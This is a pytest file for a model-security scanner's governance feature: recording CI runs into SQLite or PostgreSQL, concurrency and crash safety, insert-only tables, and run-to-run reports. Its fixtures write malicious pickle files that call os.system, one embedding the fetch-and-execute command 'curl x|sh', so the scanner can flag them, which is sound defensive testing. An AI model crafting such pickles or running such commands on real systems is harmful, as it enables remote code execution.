"""Governance over time: `modelshield ci --record` writes each run to a database (SQLite
files here, PostgreSQL when Debian's server is installed), whole or not at all, and
`modelshield report --since` shows what changed across the models between runs."""

from __future__ import annotations

import json
import os
import pickle
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from modelshield.gate import governance
from modelshield.gate.history import git_commit
from tests.cli.conftest import reduce_os_system_pickle, run_cli
from tests.gate.conftest import git
from tests.gate.test_pillars import assessed  # noqa: F401 (a fixture)

pytest.importorskip("sqlalchemy")

SKIP = ("--skip", "audit", "--skip", "manifest")


def report_json(cwd: Path, *args: str) -> dict[str, Any]:
    run = run_cli("report", *args, "--format", "json", cwd=cwd)
    assert run.code == 0, run.stdout + run.stderr
    document: dict[str, Any] = json.loads(run.stdout)
    return document


def runs_and_models(db: Path) -> list[tuple[str, int, int]]:
    """Each run's id, the number of model rows it says it wrote, and the number there are."""
    with sqlite3.connect(db) as conn:
        return conn.execute(
            "SELECT r.run_id, r.models, (SELECT count(*) FROM gov_models m "
            "WHERE m.run_id = r.run_id) FROM gov_runs r ORDER BY r.ts_us"
        ).fetchall()


def test_two_runs_and_the_report_shows_exactly_what_changed(
    assessed: Path,  # noqa: F811 (the fixture)
    tmp_path: Path,
) -> None:
    policy = assessed / "modelshield.toml"
    policy.write_text(policy.read_text().replace("accuracy = 0.99", "accuracy = 0.8"))
    models = assessed / "models"
    (models / "evil.pkl").write_bytes(reduce_os_system_pickle())
    first = run_cli("ci", "project", *SKIP, "--record", "gov.db", cwd=tmp_path)
    assert first.code == 1, first.stdout + first.stderr
    assert "recorded run" in first.stderr

    # The project moves on: one malicious pickle removed, another added, the holdout data
    # now disagrees with the model on a third of its rows (its accuracy drops below 0.8).
    (models / "evil.pkl").unlink()
    (models / "new").mkdir()
    (models / "new" / "backdoor.pkl").write_bytes(reduce_os_system_pickle(b"curl x|sh"))
    holdout = assessed / "data" / "holdout.csv"
    frame = pd.read_csv(holdout)
    flip = frame.index[::3]
    frame.loc[flip, "target"] = 1 - frame.loc[flip, "target"]
    frame.to_csv(holdout, index=False)
    second = run_cli("ci", "project", *SKIP, "--record", "gov.db", cwd=tmp_path)
    assert second.code == 1, second.stdout + second.stderr

    doc = report_json(tmp_path, "--db", "gov.db", "--since", "30d")
    assert doc["runs"]["in_window"] == 2 and doc["runs"]["projects"] == ["project"]
    new = [(f["path"], f["rule_id"]) for f in doc["new_findings"]]
    fixed = [(f["path"], f["rule_id"]) for f in doc["fixed_findings"]]
    assert ("models/new/backdoor.pkl", "PICKLE-CALL-DANGEROUS") in new
    assert fixed == [("models/evil.pkl", "PICKLE-CALL-DANGEROUS")]
    # Besides the new pickle, only the assessment's new finding on the model is new.
    assert {path for path, _ in new} == {"models/new/backdoor.pkl", "models/model.joblib"}
    status = {m["path"]: m["status"] for m in doc["models"]}
    assert status == {
        "models/evil.pkl": "removed",
        "models/new/backdoor.pkl": "new",
        "models/model.joblib": "seen",
        "models/notes.pkl": "seen",
        "models/modelshield.manifest.json": "seen",  # every file the scan reports
    }
    changes = {m["path"]: m["change"] for m in doc["models"] if m["change"]}
    assert changes == {"models/model.joblib": "started-failing"}
    accuracy = next(
        t for t in doc["metrics"] if t["check"] == "performance" and t["name"] == "accuracy"
    )
    assert accuracy["path"] == "models/model.joblib" and len(accuracy["series"]) == 2
    assert accuracy["first"] > 0.8 > accuracy["last"]
    assert accuracy["threshold"] == 0.8 and accuracy["passed"] is False
    assert doc["summary"] == {
        "models": 4,
        "new_models": 1,
        "removed_models": 1,
        "started_failing": 1,
        "started_passing": 0,
        "failing": 2,
        "new_findings": len(doc["new_findings"]),
        "fixed_findings": 1,
    }
    # Runs: commit-less project, digests of every model, one model row per run row.
    assert all(n == m for _, n, m in runs_and_models(tmp_path / "gov.db"))
    notes = next(m for m in doc["models"] if m["path"] == "models/notes.pkl")
    assert notes["digest"] and not notes["digest_changed"] and not notes["new_findings"]

    text = run_cli("report", "--db", "gov.db", cwd=tmp_path)
    assert text.code == 0, text.stderr
    assert "started-failing  models/model.joblib (pass -> fail)" in text.stdout
    assert "models/new/backdoor.pkl" in text.stdout and "models/evil.pkl" in text.stdout
    page = run_cli("report", "--db", "gov.db", "--format", "html", "-o", "g.html", cwd=tmp_path)
    assert page.code == 0, page.stderr
    html = (tmp_path / "g.html").read_text()
    assert "<script" not in html and "http" not in html.replace("http://www.w3.org", "")
    assert "models/new/backdoor.pkl" in html and "<svg" in html

    # A window that starts after the first run compares the second with the first.
    since = doc["runs"]["first"]
    later = report_json(tmp_path, "--db", "gov.db", "--since", since.replace("+00:00", "Z"))
    assert later["runs"]["in_window"] + later["runs"]["before_window"] == 2


def tiny_project(root: Path) -> Path:
    (root / "models").mkdir(parents=True)
    (root / "models" / "clean.pkl").write_bytes(pickle.dumps({"w": [1.0]}, protocol=4))
    (root / "models" / "evil.pkl").write_bytes(reduce_os_system_pickle())
    (root / "modelshield.toml").write_text('models = ["models/"]\n')
    return root


def spawn(cwd: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.Popen[str]:
    environ = {**os.environ, **(env or {})}
    return subprocess.Popen(
        [sys.executable, "-m", "modelshield", *args],
        cwd=cwd,
        env=environ,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
        text=True,
    )


def test_two_processes_record_into_one_sqlite_file_at_once(tmp_path: Path) -> None:
    project = tiny_project(tmp_path / "p")
    # Each holds its write transaction open for a while: they overlap for certain.
    pause = {governance.PAUSE_ENV: "1.5"}
    procs = [
        spawn(tmp_path, "ci", "p", "--skip", "audit", "--record", "gov.db", env=pause)
        for _ in range(2)
    ]
    outputs = [p.communicate(timeout=120) for p in procs]
    for proc, (out, err) in zip(procs, outputs, strict=True):
        assert proc.returncode == 1, out + err
        assert "recorded run" in err
    rows = runs_and_models(tmp_path / "gov.db")
    assert len(rows) == 2 and all(n == m == 2 for _, n, m in rows)
    assert project.is_dir()


def test_a_run_killed_mid_record_leaves_no_partial_run(tmp_path: Path) -> None:
    tiny_project(tmp_path / "p")
    db = tmp_path / "gov.db"
    done = run_cli("ci", "p", "--skip", "audit", "--record", "gov.db", cwd=tmp_path)
    assert done.code == 1, done.stderr
    for _ in range(2):
        proc = spawn(
            tmp_path,
            "ci",
            "p",
            "--skip",
            "audit",
            "--record",
            "gov.db",
            env={governance.PAUSE_ENV: "60"},
        )
        assert proc.stderr is not None
        line = ""
        while "pausing" not in line:  # inside the run's transaction: rows written, no commit
            line = proc.stderr.readline()
            assert line or proc.poll() is None, "the run ended before its transaction"
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=30)
        proc.stdout.close()  # type: ignore[union-attr]
        proc.stderr.close()
    rows = runs_and_models(db)
    assert len(rows) == 1 and all(n == m for _, n, m in rows)
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        orphans = conn.execute(
            "SELECT count(*) FROM gov_findings WHERE run_id NOT IN (SELECT run_id FROM gov_runs)"
        ).fetchone()
        assert orphans == (0,)
    # The lock died with the process: the next run records, and the report reads both.
    again = run_cli("ci", "p", "--skip", "audit", "--record", "gov.db", cwd=tmp_path)
    assert again.code == 1, again.stderr
    assert report_json(tmp_path, "--db", "gov.db")["runs"]["in_window"] == 2


def test_the_record_is_insert_only(tmp_path: Path) -> None:
    tiny_project(tmp_path / "p")
    assert run_cli("ci", "p", "--skip", "audit", "--record", "gov.db", cwd=tmp_path).code == 1
    with sqlite3.connect(tmp_path / "gov.db") as conn:
        for sql in ("UPDATE gov_runs SET verdict = 'pass'", "DELETE FROM gov_findings"):
            with pytest.raises(sqlite3.DatabaseError, match="insert-only"):
                conn.execute(sql)


def test_the_default_database_and_the_policys(tmp_path: Path) -> None:
    project = tiny_project(tmp_path / "p")
    bare = run_cli("ci", "--skip", "audit", "--record", cwd=project)
    assert bare.code == 1, bare.stderr
    assert (project / ".modelshield" / "governance.db").is_file()
    # The database folder is left out of the next scan, and `report` finds it from there.
    again = run_cli("ci", "--skip", "audit", "--record", "--format", "json", cwd=project)
    scanned = {r["path"] for r in json.loads(again.stdout)["results"]}
    assert scanned == {"models/clean.pkl", "models/evil.pkl"}
    assert report_json(project)["runs"]["in_window"] == 2

    # [governance] db: relative to the policy file, recorded without --record.
    (project / "modelshield.toml").write_text(
        'models = ["models/"]\n[governance]\ndb = "history.db"\nproject = "fraud-model"\n'
    )
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    run = run_cli("ci", "../p", "--skip", "audit", cwd=elsewhere)
    assert run.code == 1, run.stderr
    doc = report_json(elsewhere, "--db", str(project / "history.db"))
    assert doc["runs"]["projects"] == ["fraud-model"]
    assert not (elsewhere / "history.db").exists()


def test_the_git_commit_is_read_without_git(tmp_path: Path) -> None:
    project = tiny_project(tmp_path / "p")
    git(project, "init", "-q")
    assert git_commit(str(project)) is None  # no commit yet
    git(project, "add", ".")
    git(project, "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-qm", "x")
    head = subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=project, capture_output=True, text=True, check=True
    ).stdout.strip()
    assert git_commit(str(project / "models")) == head
    git(project, "pack-refs", "--all")  # the branch now lives in packed-refs only
    assert git_commit(str(project)) == head
    assert run_cli("ci", "p", "--skip", "audit", "--record", "g.db", cwd=tmp_path).code == 1
    assert report_json(tmp_path, "--db", "g.db")["runs"]["latest"][0]["git_commit"] == head


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("report", "--db", "x.db", "--since", "last tuesday"), "time 'last tuesday'"),
        (("report", "--db", "missing.db"), "no governance database at"),
        (("report", "--db", "notes.txt"), "notes.txt"),
        (("report", "--db", "other.db"), "is not a modelshield governance database"),
        (
            ("ci", "p", "--skip", "audit", "--record", "postgresql://u@127.0.0.1:9/x"),
            "cannot use the governance database postgresql+psycopg://u@127.0.0.1:9/x",
        ),
        (("ci", "p", "--skip", "audit", "--record", "notes.txt"), "notes.txt"),
        (("ci", "p", "--skip", "audit", "--record", "no/such/dir/g.db"), "does not exist"),
    ],
    ids=["since", "missing", "text-file", "other-db", "unreachable", "not-a-db", "no-folder"],
)
def test_bad_input_is_a_clear_error(tmp_path: Path, args: tuple[str, ...], message: str) -> None:
    tiny_project(tmp_path / "p")
    (tmp_path / "notes.txt").write_text("not a database\n" * 200)
    with sqlite3.connect(tmp_path / "other.db") as conn:
        conn.execute("CREATE TABLE t (x)")
    started = time.monotonic()
    run = run_cli(*args, cwd=tmp_path)
    assert run.code == 2, run.stdout + run.stderr
    assert message in run.stderr and "Traceback" not in run.stderr
    assert len(run.stderr.strip().splitlines()) == 1
    assert time.monotonic() - started < 60
    assert not list(tmp_path.glob("*.sarif"))


def test_the_db_extra_is_named_when_sqlalchemy_is_missing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import importlib.util

    from modelshield.cli._governance import need_sqlalchemy
    from modelshield.core.errors import MissingExtraError

    real = importlib.util.find_spec
    monkeypatch.setattr(
        importlib.util, "find_spec", lambda name, *a: None if name == "sqlalchemy" else real(name)
    )
    with pytest.raises(MissingExtraError) as caught:
        need_sqlalchemy("modelshield ci --record")
    assert "pip install 'modelshield[db]'" in caught.value.diagnostics()


@pytest.fixture
def pg() -> Any:
    from tests.guard.postgres import running_postgres

    yield from running_postgres()


def test_postgresql_records_concurrent_runs(pg: Any, tmp_path: Path) -> None:
    tiny_project(tmp_path / "p")
    procs = [
        spawn(
            tmp_path,
            "ci",
            "p",
            "--skip",
            "audit",
            "--record",
            pg.url,
            env={governance.PAUSE_ENV: "1"},
        )
        for _ in range(2)
    ]
    for proc in procs:
        out, err = proc.communicate(timeout=120)
        assert proc.returncode == 1, out + err
    doc = report_json(tmp_path, "--db", pg.url)
    assert doc["runs"]["in_window"] == 2
    assert doc["summary"]["new_findings"] == 0 and doc["summary"]["models"] == 2
    import psycopg

    with psycopg.connect(pg.url) as conn, pytest.raises(psycopg.Error, match="insert-only"):
        conn.execute("DELETE FROM gov_models")


def test_readmes_scripts_and_data_beside_a_model_are_not_models(tmp_path: Path) -> None:
    """They are recorded under the project entry; the pickle is a model of its own."""
    project = tmp_path / "project"
    (project / "models").mkdir(parents=True)
    (project / "models" / "clf.pkl").write_bytes(pickle.dumps({"weights": [1.0, 2.0]}))
    (project / "models" / "README.md").write_text("# The classifier\n\nTrained on Tuesdays.\n")
    (project / "models" / "train.py").write_text("import pickle\nprint('training')\n")
    (project / "models" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(64))
    (project / "modelshield.toml").write_text('models = ["models/"]\n')
    run = run_cli("ci", "project", *SKIP, "--record", "gov.db", cwd=tmp_path)
    assert run.code == 0, run.stdout + run.stderr
    with sqlite3.connect(tmp_path / "gov.db") as conn:
        rows = dict(conn.execute("SELECT path, kind FROM gov_models").fetchall())
    assert rows == {"models/clf.pkl": "file", ".": "project"}
